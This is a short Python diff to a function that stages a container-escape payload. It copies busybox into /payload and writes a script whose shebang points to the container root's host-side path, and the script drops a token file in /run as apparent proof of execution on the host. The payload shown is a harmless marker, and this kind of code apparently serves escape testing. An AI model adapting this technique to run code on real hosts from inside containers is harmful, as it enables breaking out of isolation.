@@ -247,12 +247,12 @@ def payload(token: str) -> str:
         raise Refused("our root's place on the node is not told")
     folder = Path("/payload")
     folder.mkdir(exist_ok=True)
-    shell = folder / "shell"
+    shell = folder / "busybox"  # which it asks its own name for
     if not shell.exists():
         shell.write_bytes(Path("/usr/bin/busybox").read_bytes())
         shell.chmod(0o755)
     program = folder / token
-    program.write_text(f"#!{upper[1]}/payload/shell sh\necho {token} > /run/{token}\n")
+    program.write_text(f"#!{upper[1]}/payload/busybox sh\necho {token} > /run/{token}\n")
     program.chmod(0o755)
     return f"{upper[1]}/payload/{token}"
 
